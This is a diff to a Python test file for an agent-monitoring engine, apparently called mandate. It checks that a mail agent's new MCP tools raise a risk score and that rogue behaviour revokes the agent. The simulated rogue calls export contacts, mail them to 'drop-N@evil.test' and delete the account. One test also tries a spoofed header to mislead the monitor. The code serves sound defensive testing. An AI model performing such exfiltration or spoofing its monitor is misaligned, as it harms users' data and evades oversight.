@@ -6,6 +6,11 @@ goes rogue (a fast burst to hosts it never used and to paths its purpose denies)
   explanation as the reason; every later call, normal ones included, is denied.
 - `monitor`: nothing is denied beyond what the rules deny, and the score and its reasons
   are reported (`mandate status`, the decision's audit record).
+
+What the agent does (issue 21): a mail-agent's MCP tool calls, all through the one `POST
+/mcp` its rule allows, reach the engine with their tool and arguments (Envoy's dynamic
+metadata, from mandate's answer, in the access log entry): a tool it never used raises the
+score, named in the explanation; tools, recipients and an order it never used revoke it.
 """
 
 from __future__ import annotations
@@ -14,6 +19,7 @@ import json
 import time
 from collections.abc import Iterator
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -194,5 +200,151 @@ def test_an_automatic_revocation_can_be_published_as_an_agentrevocation(
         restored = stack.mandate_cli("restore", "billing-agent")
         assert restored.returncode == 1, restored.stdout
         assert stack.call("billing-agent", "GET", f"{LEDGER}/v1/invoices/1").status == 403
+    finally:
+        stop_stack(stack)
+
+
+# -- what the agent does: MCP tools (issue 21) -------------------------------------------------
+
+MCP = "http://mcp.tools.svc.cluster.local/mcp"
+MAIL_PROFILE = """\
+apiVersion: mandate.dev/v1alpha1
+kind: AgentProfile
+metadata:
+  name: mail-agent
+spec:
+  owner: assistants
+  defaultPurpose: mail
+  purposes:
+    mail:
+      allow:
+        - hosts: [mcp.tools.svc.cluster.local]
+          methods: [POST]
+          paths: ["/mcp"]
+          mcpTools: [read_inbox, search_contacts, send_email, export_contacts, delete_account]
+  behavior:
+    mode: {mode}
+    revokeAtRisk: 0.95
+    learningPeriod: 3s
+    window: 10s
+    minCalls: 5
+    sensitiveArguments: [to]
+"""
+KNOWN = ("alice@example.test", "bob@example.test")
+
+
+def _mail_stack(tmp: Path, mode: str, transport: str) -> Stack:
+    d = tmp / "profiles"
+    d.mkdir()
+    (d / "mail.yaml").write_text(MAIL_PROFILE.format(mode=mode))
+    return start_stack(
+        tmp, profiles=d, transport=transport, agents=["mail-agent"],
+        extra=["--access-log", "127.0.0.1:0", "--audit-dir", str(tmp / "audit")],
+    )  # fmt: skip
+
+
+def _tool(
+    stack: Stack,
+    tool: str,
+    arguments: dict[str, object] | None = None,
+    headers: dict[str, str] | None = None,
+) -> Any:
+    body = json.dumps(
+        {"jsonrpc": "2.0", "id": 1, "method": "tools/call",
+         "params": {"name": tool, "arguments": arguments or {}}}
+    ).encode()  # fmt: skip
+    headers = {"Content-Type": "application/json", **(headers or {})}
+    return stack.call("mail-agent", "POST", MCP, headers=headers, body=body)
+
+
+def _learn_mail(stack: Stack, seconds: float = 3.5) -> None:
+    """The agent's usual work through its learning period: read, look up, send to someone
+    it knows."""
+    deadline = time.monotonic() + seconds
+    i = 0
+    while time.monotonic() < deadline:
+        for tool, args in (
+            ("read_inbox", {"folder": "inbox"}),
+            ("search_contacts", {"query": "team"}),
+            ("send_email", {"to": [KNOWN[i % 2]], "body": "weekly report"}),
+        ):
+            assert _tool(stack, tool, args).status == 200
+            time.sleep(0.05)
+        i += 1
+
+
+def _mail_risk(stack: Stack) -> dict[str, object]:
+    status = json.loads(stack.mandate_cli("status").stdout)
+    return {r["agent"]: r for r in status["behaviour"]["risks"]}.get("mail-agent", {})
+
+
+def test_a_first_time_tool_raises_the_score_and_is_named(tmp_path: Path, transport: str) -> None:
+    stack = _mail_stack(tmp_path, "monitor", transport)
+    try:
+        _learn_mail(stack)
+        deadline = time.monotonic() + 5
+        while _mail_risk(stack).get("learning", True) and time.monotonic() < deadline:
+            time.sleep(0.1)
+        calm = _mail_risk(stack)
+        assert float(calm["score"]) < 0.1, calm  # type: ignore[arg-type]
+        # Once, through the same POST /mcp as every call: only the tool is new. The facts
+        # are mandate's answer's, never the agent's: its own x-mandate-call changes nothing.
+        spoof = {"x-mandate-call": "t=read_inbox(folder:s)"}
+        assert _tool(stack, "export_contacts", {"format": "csv"}, spoof).status == 200
+        deadline = time.monotonic() + 5
+        risk: dict[str, object] = {}
+        while time.monotonic() < deadline:
+            risk = _mail_risk(stack)
+            if float(risk.get("score", 0)) > 0:  # type: ignore[arg-type]
+                break
+            time.sleep(0.1)
+        assert 0.56 <= float(risk["score"]) < 0.8, risk  # type: ignore[arg-type]
+        assert "new tools 0.56 (1 call: export_contacts(format:s))" in str(risk["explanation"])
+        assert risk["contributions"]["new_tools"] == 0.56  # type: ignore[index]
+        # One new tool is never enough to deny (monitor or not): the next call goes through.
+        assert _tool(stack, "read_inbox", {"folder": "inbox"}).status == 200
+    finally:
+        stop_stack(stack)
+
+
+def test_tool_novelty_revokes_the_agent_in_enforce(tmp_path: Path, transport: str) -> None:
+    stack = _mail_stack(tmp_path, "enforce", transport)
+    try:
+        _learn_mail(stack)
+        time.sleep(0.5)
+        # Rogue: tools it never used, mail to addresses it never wrote to, in a new order.
+        rogue = [
+            ("export_contacts", {"format": "csv"}),
+            ("read_inbox", {"folder": "inbox"}),
+            ("send_email", {"to": ["drop-{i}@evil.test"], "body": "contacts attached"}),
+            ("delete_account", {"confirm": True}),
+        ]
+        codes: list[str] = []
+        body: dict[str, object] = {}
+        for i in range(60):
+            tool, args = rogue[i % len(rogue)]
+            args = json.loads(json.dumps(args).replace("{i}", str(i)))
+            resp = _tool(stack, tool, args)
+            body = resp.json() if resp.status == 403 else {}
+            codes.append(str(body.get("error", resp.status)))
+            if body.get("error") == "revoked":
+                break
+            time.sleep(0.1)
+        assert codes[-1] == "revoked", codes
+        assert len(codes) <= 30, codes
+        assert codes[0] == "200"  # the first new tool alone denies nothing
+        reason = str(body["reason"])
+        assert reason.startswith("revoked: behaviour: risk "), reason
+        assert "new tools" in reason and "export_contacts(format:s)" in reason, reason
+        # A revoked agent's usual calls are refused too.
+        assert _tool(stack, "read_inbox", {"folder": "inbox"}).status == 403
+        records = [
+            json.loads(line)
+            for f in sorted((stack.tmp / "audit").glob("audit-*supervisor*.jsonl"))
+            for line in f.read_text().splitlines()
+        ]
+        auto = [r for r in records if r.get("type") == "revocation_automatic"]
+        assert auto and auto[0]["agent"] == "mail-agent" and auto[0]["risk"] >= 0.95
+        assert auto[0]["contributions"]["new_tools"] == 0.7
     finally:
         stop_stack(stack)
